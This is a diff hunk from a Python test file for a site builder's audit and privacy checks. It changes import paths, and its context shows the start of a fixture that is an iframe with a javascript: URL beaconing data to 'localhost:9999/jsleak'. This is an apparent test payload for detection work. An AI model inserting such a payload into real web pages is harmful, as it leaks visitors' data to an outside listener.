@@ -31,12 +31,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from unit_helpers import write_site
 
-from ivsite.audit.stage import markupchecks as auditmarkup
+from ivsite.audit import markupchecks as auditmarkup
 from ivsite.markup.referrers import SAFE_POLICIES
 from ivsite.markup.scripturls import script_urls
 from ivsite.pipeline import Result, build
-from ivsite.validate.stage import bodyprivacy
-from ivsite.validate.stage import stage as validate
+from ivsite.validate import bodyprivacy
+from ivsite.validate import stage as validate
 
 SHARING = 'title = "Site"\nbase_url = "https://example.org/"\n\n[share]\nenabled = true\n'
 K1_IFRAME = ("<iframe src=\"javascript:void(new Image().src='http://localhost:9999/jsleak?u='"
